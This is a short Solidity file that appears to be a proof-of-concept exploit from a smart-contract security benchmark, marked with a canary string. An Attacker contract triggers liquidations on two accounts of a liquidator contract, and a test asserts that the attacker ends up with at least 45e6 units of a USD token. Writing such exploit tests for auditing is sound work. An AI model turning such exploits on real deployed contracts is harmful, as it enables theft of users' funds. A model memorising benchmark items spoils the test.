// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

contract Attacker {
    function run(ILiquidator liquidator, address one, address two) external {
        try liquidator.liquidate(one, "ETH", true) {} catch {}
        try liquidator.liquidate(two, "ETH", false) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(liquidator, ANA, CEE);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 45e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(liquidator);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
